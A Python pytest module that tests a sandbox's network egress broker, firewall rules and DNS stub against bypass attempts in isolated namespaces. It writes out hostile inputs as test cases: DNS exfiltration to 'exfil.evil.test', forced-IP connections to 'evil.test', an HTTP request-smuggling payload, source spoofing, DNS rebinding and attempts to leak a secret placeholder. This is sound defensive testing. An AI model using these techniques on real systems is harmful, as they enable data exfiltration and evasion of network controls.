"""Bypass attempts from a sandbox's network, through the real tap, nftables rules, DNS stub and broker.

The lab: a sandbox namespace made by ``NetworkManager`` (tap + nftables), a "guest" namespace wired to that
tap frame by frame (what the VM's NIC does), the broker listening inside the sandbox namespace, and an
"outside world" namespace joined to the node by a veth, holding a DNS server and HTTP/HTTPS servers that
play external APIs. Every address involved lives in namespaces this module creates.
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import socket
import ssl
import subprocess
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import pytest_asyncio

from capsa.node.egress import dnswire
from capsa.node.egress.audit import EgressEvent, ListSink
from capsa.node.egress.broker import EgressBroker
from capsa.node.egress.netaudit import DropAuditor
from capsa.node.egress.sandboxes import SandboxEgress
from capsa.node.net.nsexec import run_in_netns
from capsa.node.net.sandbox_net import NetworkManager, SandboxNet
from capsa.node.net.wire import GuestNamespace
from tests.support.outside import SECRET, SECRET_ID, outside_world, world_policy

pytestmark = [
    pytest.mark.root,
    pytest.mark.asyncio(loop_scope="module"),
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root for namespaces and nftables"),
]


def _sh(*argv: str, check: bool = True) -> str:
    return subprocess.run(list(argv), check=check, capture_output=True, text=True).stdout


@dataclass
class Lab:
    tmp: Path
    up_ns: str
    up_ip: str
    up_net: str
    manager: NetworkManager
    net: SandboxNet
    guest: GuestNamespace
    broker: EgressBroker
    sbx: SandboxEgress
    sink: ListSink
    auditor: DropAuditor
    ca_file: Path
    last_err: str = ""

    async def guest_run(self, *argv: str, limit_s: float = 20) -> tuple[int, str, str]:
        proc = await asyncio.create_subprocess_exec(
            "ip", "netns", "exec", self.guest.name, *argv,
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
        out, err = await asyncio.wait_for(proc.communicate(), limit_s)
        assert proc.returncode is not None
        return proc.returncode, out.decode(errors="replace"), err.decode(errors="replace")

    async def curl(self, *args: str) -> tuple[int, str, str]:
        """curl in the guest; returns (http status or 0, body, stderr)."""
        _rc, out, err = await self.guest_run(
            "curl", "-sS", "--max-time", "8", "--cacert", str(self.ca_file),
            "-w", "\n%{http_code}", *args)
        body, _, code = out.rpartition("\n")
        self.last_err = err
        return (int(code) if code.isdigit() else 0), body, err

    async def guest_connect(self, host: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        def make() -> socket.socket:
            s = socket.create_connection((host, port), timeout=5)
            s.setblocking(False)
            return s

        sock = await asyncio.to_thread(run_in_netns, self.guest.name, make)
        return await asyncio.open_connection(sock=sock)

    @property
    def placeholder(self) -> str:
        ph = self.sbx.placeholder_for(SECRET_ID)
        assert ph is not None
        return ph

    def events_since(self, mark: int) -> list[EgressEvent]:
        return self.sink.events[mark:]

    async def allowed(self, mark: int, **match: object) -> EgressEvent:
        """The allowed http request after `mark` matching `match`. The broker records an allowed request once
        its exchange returns, after the last byte went to the guest, so the guest's curl can exit first: the
        event is waited for (bounded), never read at once."""
        for _ in range(100):
            found = [e for e in self.events_since(mark)
                     if e.kind == "http" and e.decision == "allow"
                     and all(getattr(e, k) == v for k, v in match.items())]
            if found:
                return found[-1]
            await asyncio.sleep(0.05)
        events = [e.model_dump(exclude_none=True) for e in self.events_since(mark)]
        raise AssertionError(f"no allowed http event matching {match} in {events}")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def lab() -> AsyncIterator[Lab]:
    octet = 100 + secrets.randbelow(100)
    manager = NetworkManager()
    net: SandboxNet | None = None
    guest: GuestNamespace | None = None
    broker: EgressBroker | None = None
    async with outside_world(octet) as world:
        try:
            sink = ListSink()
            broker = world.broker(sink)
            net = await manager.create("sbx_" + secrets.token_hex(10))
            sbx = broker.register(net.sandbox_id, net.guest_ip, world_policy(), session_id="ses_lab")
            await broker.listen(net.sandbox_id, net.gateway_ip, netns=net.netns, ports=net.ports)
            guest = GuestNamespace(net, f"ctest-guest-{secrets.token_hex(3)}").start()
            ca_file = world.tmp / "sandbox-ca.pem"
            ca_file.write_bytes(sbx.ca.cert_pem)
            yield Lab(world.tmp, world.ns, world.ip, world.net, manager, net, guest, broker, sbx, sink,
                      DropAuditor(manager, net, sink, "ses_lab"), ca_file)
        finally:
            if guest is not None:
                guest.stop()
            if broker is not None:
                await broker.close()
            if net is not None:
                await manager.destroy(net)


def _denied(events: list[EgressEvent], **match: object) -> EgressEvent:
    found = [e for e in events if e.decision == "deny" and all(getattr(e, k) == v for k, v in match.items())]
    assert found, f"no deny event matching {match} in {[e.model_dump(exclude_none=True) for e in events]}"
    return found[-1]


# --- what must work ----------------------------------------------------------------------------------

async def test_allowed_https_injects_secret_and_redacts_it(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, body, err = await lab.curl("-H", f"Authorization: Bearer {lab.placeholder}",
                                       "https://api.allowed.test/leak-header")
    assert status == 200, err
    echoed = json.loads(body)
    # The upstream received the real secret; the sandbox sees it redacted in the echo.
    assert echoed["tls"] is True
    assert echoed["headers"]["authorization"] == "Bearer [REDACTED]"
    assert lab.placeholder not in body
    assert SECRET not in body
    ev = await lab.allowed(mark, destination="api.allowed.test")
    assert ev.secret_ids == [SECRET_ID] and ev.resolved_ip == lab.up_ip
    dns = [e for e in lab.events_since(mark) if e.kind == "dns"]
    assert any(e.destination == "api.allowed.test" and e.decision == "allow" for e in dns)
    for e in lab.sink.events:
        assert SECRET not in e.model_dump_json()


async def test_secret_reaches_upstream_and_header_redacted(lab: Lab) -> None:
    rc, out, err = await lab.guest_run(
        "curl", "-sS", "-D", "-", "--max-time", "8", "--noproxy", "*", "--cacert", str(lab.ca_file),
        "-H", f"Authorization: {lab.placeholder}", "https://api.allowed.test/leak-header")
    assert rc == 0, err
    # The upstream echoes what it received: the real value (now redacted), not the placeholder.
    assert "x-echo-auth: [redacted]" in out.lower()
    assert SECRET not in out and lab.placeholder not in out


async def test_allowed_through_explicit_proxy_connect(lab: Lab) -> None:
    status, body, err = await lab.curl("-x", lab.net.proxy_url, "https://third.allowed.test/v1/models")
    assert status == 200, err
    assert json.loads(body)["path"] == "/v1/models"


async def test_allowed_plain_http(lab: Lab) -> None:
    status, body, err = await lab.curl("http://api.allowed.test/hello")
    assert status == 200, err
    assert json.loads(body)["tls"] is False


async def test_allowed_plain_http_through_proxy_absolute_form(lab: Lab) -> None:
    status, _body, err = await lab.curl("-x", lab.net.proxy_url, "http://third.allowed.test/v1/x")
    assert status == 200, err


async def test_post_with_expect_continue(lab: Lab) -> None:
    body = "a=" + "x" * 4000  # curl sends Expect: 100-continue above 1 KiB and waits for the 100
    mark = len(lab.sink.events)
    status, out, err = await lab.curl("--expect100-timeout", "5", "--data", body,
                                      "https://api.allowed.test/echo")
    assert status == 200, err
    assert json.loads(out)["body"] == body
    ev = await lab.allowed(mark, method="POST")
    assert ev.bytes_out == len(body)


async def test_keep_alive_reuses_connection(lab: Lab) -> None:
    rc, out, err = await lab.guest_run(
        "curl", "-sS", "--noproxy", "*", "--cacert", str(lab.ca_file), "-o", "/dev/null", "-o", "/dev/null",
        "-w", "%{num_connects}\n", "https://api.allowed.test/a", "https://api.allowed.test/b")
    assert rc == 0, err
    assert out.split() == ["1", "0"]


# --- the battery: each attempt fails and leaves an audit trace ---------------------------------------

async def test_direct_ip_http_refused(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl(f"http://{lab.up_ip}/")
    assert status == 403, lab.last_err
    _denied(lab.events_since(mark), kind="http", reason="IP-literal destinations are refused")


async def test_obfuscated_ip_literal_refused(lab: Lab) -> None:
    mark = len(lab.sink.events)
    a, b, c, d = (int(x) for x in lab.up_ip.split("."))
    status, _, _ = await lab.curl("-H", f"Host: {(a << 24) | (b << 16) | (c << 8) | d}", "http://api.allowed.test/")
    assert status == 403, lab.last_err
    _denied(lab.events_since(mark), kind="http", reason="IP-literal destinations are refused")


async def test_direct_ip_https_refused(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, err = await lab.curl("-k", f"https://{lab.up_ip}/")
    assert status == 0, err
    _denied(lab.events_since(mark), kind="tls", destination="<no SNI>")


async def test_disallowed_domain_https_refused(lab: Lab) -> None:
    mark = len(lab.sink.events)
    # The stub does not resolve it; force the address, as malware with a hard-coded IP would.
    status, _, _ = await lab.curl("--resolve", f"evil.test:443:{lab.up_ip}", "https://evil.test/")
    assert status == 0, lab.last_err
    _denied(lab.events_since(mark), kind="tls", destination="evil.test")


async def test_disallowed_domain_not_resolved(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, err = await lab.curl("https://evil.test/")
    assert status == 0 and "resolve" in err.lower()
    _denied(lab.events_since(mark), kind="dns", destination="evil.test")


async def test_dns_exfiltration_not_forwarded(lab: Lab) -> None:
    mark = len(lab.sink.events)
    label = "c2VjcmV0LWRhdGEtZXhmaWw"
    rc, _, _ = await lab.guest_run("getent", "ahostsv4", f"{label}.exfil.evil.test")
    assert rc != 0
    ev = _denied(lab.events_since(mark), kind="dns")
    assert ev.destination is not None and label.lower() in ev.destination


async def _udp_exchange(lab: Lab, host: str, port: int, payload: bytes) -> bytes | None:
    def go() -> bytes | None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1.5)
            s.sendto(payload, (host, port))
            try:
                return s.recv(4096)
            except TimeoutError:
                return None

    return await asyncio.to_thread(run_in_netns, lab.guest.name, go)


async def test_outside_dns_resolver_unreachable(lab: Lab) -> None:
    await lab.auditor.poll()
    answer = await _udp_exchange(lab, lab.up_ip, 53, dnswire.build_query(7, "api.allowed.test"))
    assert answer is None
    events = await lab.auditor.poll()
    assert any(e.destination == "drop_forward" for e in events)


async def test_stub_answers_allowed_name_with_broker_address(lab: Lab) -> None:
    answer = await _udp_exchange(lab, lab.net.dns_server, 53, dnswire.build_query(9, "api.allowed.test"))
    assert answer is not None
    assert dnswire.parse_a_answers(answer, 9, "api.allowed.test") == (dnswire.NOERROR, [lab.net.gateway_ip])


async def test_other_tcp_port_outside_dropped(lab: Lab) -> None:
    await lab.auditor.poll()
    status, _, _ = await lab.curl("--connect-timeout", "2", f"http://{lab.up_ip}:8000/")
    assert status == 0, lab.last_err
    events = await lab.auditor.poll()
    assert any(e.destination == "drop_forward" for e in events)


async def test_other_tcp_port_on_gateway_dropped(lab: Lab) -> None:
    await lab.auditor.poll()
    status, _, _ = await lab.curl("--connect-timeout", "2", f"http://{lab.net.gateway_ip}:22/")
    assert status == 0, lab.last_err
    events = await lab.auditor.poll()
    assert any(e.destination == "drop_tcp" for e in events)


async def test_udp_out_dropped(lab: Lab) -> None:
    await lab.auditor.poll()
    assert await _udp_exchange(lab, lab.up_ip, 9999, b"hello") is None
    assert await _udp_exchange(lab, lab.net.gateway_ip, 9999, b"hello") is None
    names = {e.destination for e in await lab.auditor.poll()}
    assert {"drop_forward", "drop_udp"} <= names


async def _ping(lab: Lab, host: str) -> bool:
    """One ICMP echo from the guest; True if anything answered."""

    def go() -> bool:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
            s.settimeout(1.5)
            header = bytes([8, 0, 0, 0, 0x12, 0x34, 0, 1]) + b"capsa-ping"
            total = sum(int.from_bytes(header[i:i + 2], "big") for i in range(0, len(header), 2))
            total = (total & 0xFFFF) + (total >> 16)
            checksum = (~total) & 0xFFFF
            s.sendto(header[:2] + checksum.to_bytes(2, "big") + header[4:], (host, 0))
            try:
                s.recv(1024)
            except TimeoutError:
                return False
            return True

    return await asyncio.to_thread(run_in_netns, lab.guest.name, go)


async def test_icmp_dropped(lab: Lab) -> None:
    await lab.auditor.poll()
    assert not await _ping(lab, lab.up_ip)
    assert not await _ping(lab, lab.net.gateway_ip)
    names = {e.destination for e in await lab.auditor.poll()}
    assert {"drop_forward", "drop_icmp"} <= names


async def test_ipv6_dropped(lab: Lab) -> None:
    await lab.auditor.poll()

    def send6() -> bytes | None:
        ifindex = socket.if_nametoindex(lab.guest.guest_tap)
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
            s.settimeout(1.5)
            # Link-local all-nodes: needs no route, reaches the node's side of the tap if anything does.
            s.sendto(b"hello", ("ff02::1", 9999, 0, ifindex))
            s.sendto(b"hello", ("fe80::1", 53, 0, ifindex))
            try:
                return s.recv(1024)
            except TimeoutError:
                return None

    assert await asyncio.to_thread(run_in_netns, lab.guest.name, send6) is None
    events = await lab.auditor.poll()
    assert any(e.destination == "drop_ipv6" for e in events)


async def test_spoofed_source_dropped(lab: Lab) -> None:
    await lab.auditor.poll()
    spoof = "192.0.2.77"
    _sh("ip", "-n", lab.guest.name, "addr", "add", f"{spoof}/32", "dev", lab.guest.guest_tap)
    try:
        status, _, _ = await lab.curl("--interface", spoof, "--connect-timeout", "2",
                                      "http://api.allowed.test/")
    finally:
        _sh("ip", "-n", lab.guest.name, "addr", "del", f"{spoof}/32", "dev", lab.guest.guest_tap)
    assert status == 0, lab.last_err
    events = await lab.auditor.poll()
    assert any(e.destination == "drop_spoofed" for e in events)


async def test_connect_to_disallowed_host(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("-x", lab.net.proxy_url, "https://evil.test/")
    assert status in (0, 403)
    _denied(lab.events_since(mark), kind="connect", destination="evil.test:443")


async def test_connect_to_other_port(lab: Lab) -> None:
    mark = len(lab.sink.events)
    reader, writer = await lab.guest_connect(lab.net.gateway_ip, lab.net.ports.proxy)
    writer.write(b"CONNECT api.allowed.test:22 HTTP/1.1\r\nHost: api.allowed.test:22\r\n\r\n")
    line = await reader.readline()
    writer.close()
    assert b" 403 " in line
    _denied(lab.events_since(mark), kind="connect", reason="CONNECT is only allowed to port 443")


async def test_connect_sni_mismatch(lab: Lab) -> None:
    mark = len(lab.sink.events)
    reader, writer = await lab.guest_connect(lab.net.gateway_ip, lab.net.ports.proxy)
    writer.write(b"CONNECT api.allowed.test:443 HTTP/1.1\r\nHost: api.allowed.test:443\r\n\r\n")
    assert b" 200 " in await reader.readline()
    assert await reader.readline() == b"\r\n"
    ctx = ssl.create_default_context(cafile=str(lab.ca_file))
    with pytest.raises((ssl.SSLError, ConnectionError, asyncio.IncompleteReadError)):
        await writer.start_tls(ctx, server_hostname="other.allowed.test")
        writer.write(b"GET /echo HTTP/1.1\r\nHost: other.allowed.test\r\n\r\n")
        data = await reader.read(100)
        if not data:
            raise ConnectionError("closed")
    writer.close()
    _denied(lab.events_since(mark), kind="tls", destination="other.allowed.test")


async def test_host_sni_mismatch(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("-H", "Host: other.allowed.test", "https://api.allowed.test/echo")
    assert status == 421, lab.last_err
    _denied(lab.events_since(mark), kind="http", status=421)


async def test_host_switch_on_keep_alive(lab: Lab) -> None:
    mark = len(lab.sink.events)
    reader, writer = await lab.guest_connect(lab.up_ip, 80)  # DNAT-ed to the broker
    writer.write(b"GET /echo HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n")
    first = await reader.readuntil(b"\r\n\r\n")
    assert b" 200 " in first.split(b"\r\n")[0]
    length = next(int(line.split(b":")[1]) for line in first.split(b"\r\n")
                  if line.lower().startswith(b"content-length"))
    await reader.readexactly(length)
    writer.write(b"GET /echo HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    second = await reader.readuntil(b"\r\n\r\n")
    writer.close()
    assert b" 421 " in second.split(b"\r\n")[0]
    ev = _denied(lab.events_since(mark), kind="http", status=421)
    assert "keep-alive" in (ev.reason or "")


async def test_h2c_upgrade_refused(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("--http2", "http://api.allowed.test/")
    assert status == 403, lab.last_err
    _denied(lab.events_since(mark), kind="http", reason="protocol upgrade (h2c, websocket) refused")


async def test_h2_prior_knowledge_refused(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("--http2-prior-knowledge", "http://api.allowed.test/")
    assert status != 200
    _denied(lab.events_since(mark), kind="http", status=400)


async def test_request_smuggling_refused(lab: Lab) -> None:
    mark = len(lab.sink.events)
    reader, writer = await lab.guest_connect(lab.net.gateway_ip, lab.net.ports.http)
    writer.write(b"POST /echo HTTP/1.1\r\nHost: api.allowed.test\r\nContent-Length: 4\r\n"
                 b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
                 b"GET /admin HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n")
    head = await reader.readuntil(b"\r\n\r\n")
    rest = await reader.read()
    writer.close()
    assert b" 400 " in head.split(b"\r\n")[0]
    assert b"HTTP/1.1" not in rest  # no second response: the smuggled request never ran
    _denied(lab.events_since(mark), kind="http",
            reason="request smuggling: both Content-Length and Transfer-Encoding")


async def test_placeholder_to_other_domain(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("-H", f"Authorization: Bearer {lab.placeholder}",
                                  "https://third.allowed.test/echo")
    assert status == 403, lab.last_err
    ev = _denied(lab.events_since(mark), kind="http", status=403)
    assert "bound to api.allowed.test" in (ev.reason or "")


async def test_placeholder_in_other_header(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("-H", f"X-Debug: {lab.placeholder}", "https://api.allowed.test/echo")
    assert status == 403, lab.last_err
    _denied(lab.events_since(mark), kind="http", reason=f"placeholder of {SECRET_ID} in header x-debug")


async def test_placeholder_in_url(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl(f"https://api.allowed.test/echo?key={lab.placeholder}")
    assert status == 403, lab.last_err
    ev = _denied(lab.events_since(mark), kind="http", reason=f"placeholder of {SECRET_ID} in the URL")
    assert ev.path == "/echo?key=[PLACEHOLDER]"  # the audit trail does not spread placeholders


async def test_placeholder_in_body(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("--data", f"token={lab.placeholder}", "https://api.allowed.test/echo")
    assert status == 403, lab.last_err
    _denied(lab.events_since(mark), kind="http", reason=f"placeholder of {SECRET_ID} in the request body")


async def test_placeholder_over_plain_http(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("-H", f"Authorization: Bearer {lab.placeholder}", "http://api.allowed.test/")
    assert status == 403, lab.last_err
    _denied(lab.events_since(mark), kind="http", reason=f"placeholder of {SECRET_ID} over plain HTTP")


@pytest.mark.parametrize("name", ["rebind.allowed.test", "metadata.allowed.test", "mixed.allowed.test"])
async def test_dns_rebinding_to_private_addresses(lab: Lab, name: str) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl(f"https://{name}/v1/x")
    assert status == 403, lab.last_err
    ev = _denied(lab.events_since(mark), kind="http", destination=name)
    assert "non-public address" in (ev.reason or "")


async def test_disallowed_method(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("-X", "DELETE", "https://api.allowed.test/echo")
    assert status == 403, lab.last_err
    _denied(lab.events_since(mark), kind="http", method="DELETE", rule="api.allowed.test")


async def test_disallowed_path(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("https://third.allowed.test/admin")
    assert status == 403, lab.last_err
    _denied(lab.events_since(mark), kind="http", path="/admin", rule="*.allowed.test")


async def test_path_traversal_refused(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("--path-as-is", "https://third.allowed.test/v1/%2e%2e/admin")
    assert status == 400, lab.last_err
    _denied(lab.events_since(mark), kind="http", status=400)


async def test_untrusted_upstream_certificate(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("https://untrusted.allowed.test/v1/x")
    assert status == 502, lab.last_err
    ev = _denied(lab.events_since(mark), kind="http", status=502)
    assert "verification" in (ev.reason or "")


async def test_rate_limit(lab: Lab) -> None:
    mark = len(lab.sink.events)
    codes = [(await lab.curl("http://limited.test/"))[0] for _ in range(3)]
    assert codes == [200, 200, 429]
    _denied(lab.events_since(mark), kind="http", status=429, rule="limited.test")


async def test_large_download_streams_through(lab: Lab) -> None:
    mark = len(lab.sink.events)
    rc, out, err = await lab.guest_run(
        "sh", "-c",
        f"curl -sS --max-time 20 --cacert {lab.ca_file} https://third.allowed.test/v1/large | sha256sum")
    assert rc == 0, err
    import hashlib

    assert out.split()[0] == hashlib.sha256(bytes(range(256)) * 12288).hexdigest()
    ev = await lab.allowed(mark, path="/v1/large")
    assert ev.bytes_in == 3 * 1024 * 1024


async def test_streamed_response_cut_at_limit(lab: Lab) -> None:
    mark = len(lab.sink.events)
    _status, body, _ = await lab.curl("https://big.allowed.test/chunked")
    assert len(body) < 5000  # the sandbox never gets more than the limit
    ev = _denied(lab.events_since(mark), kind="http", rule="big.allowed.test")
    assert "cut off" in (ev.reason or "")


async def test_response_size_limit(lab: Lab) -> None:
    mark = len(lab.sink.events)
    status, _, _ = await lab.curl("https://big.allowed.test/big")
    assert status == 502, lab.last_err
    _denied(lab.events_since(mark), kind="http", rule="big.allowed.test")


# --- lifecycle ---------------------------------------------------------------------------------------

async def test_policy_update_takes_effect_live(lab: Lab) -> None:
    status, _, _ = await lab.curl("http://later.test/")
    assert status == 0  # not even resolved
    update = lab.broker.update_policy(lab.net.sandbox_id, world_policy([{"domain": "later.test"}]))
    assert update.ca_reissued  # later.test was outside the CA's name constraints
    assert (await lab.curl("http://later.test/"))[0] == 200
    ph_before = lab.placeholder
    lab.broker.update_policy(lab.net.sandbox_id, world_policy())
    assert lab.placeholder == ph_before  # bindings that stay keep their placeholder
    assert (await lab.curl("http://later.test/"))[0] == 0


async def test_teardown_removes_everything(lab: Lab) -> None:
    """A second sandbox on the same node: after close nothing of it remains."""
    net = await lab.manager.create("sbx_" + secrets.token_hex(10))
    lab.broker.register(net.sandbox_id, net.guest_ip, world_policy())
    await lab.broker.listen(net.sandbox_id, net.gateway_ip, netns=net.netns, ports=net.ports)
    guest = GuestNamespace(net, f"ctest-g2-{secrets.token_hex(3)}").start()
    try:
        proc = await asyncio.create_subprocess_exec(
            "ip", "netns", "exec", guest.name, "curl", "-sS", "--max-time", "8", "-o", "/dev/null",
            "-w", "%{http_code}", "http://api.allowed.test/", stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE)
        out, err = await proc.communicate()
        assert out == b"200", err
    finally:
        guest.stop()
    await lab.broker.unregister(net.sandbox_id)
    await lab.manager.destroy(net)
    assert await lab.manager.leftovers(net) == []
    netns = _sh("ip", "netns", "list")
    links = _sh("ip", "-o", "link")
    assert net.netns not in netns and net.tap not in links
    with pytest.raises(Exception, match="unknown sandbox"):
        lab.broker.get(net.sandbox_id)
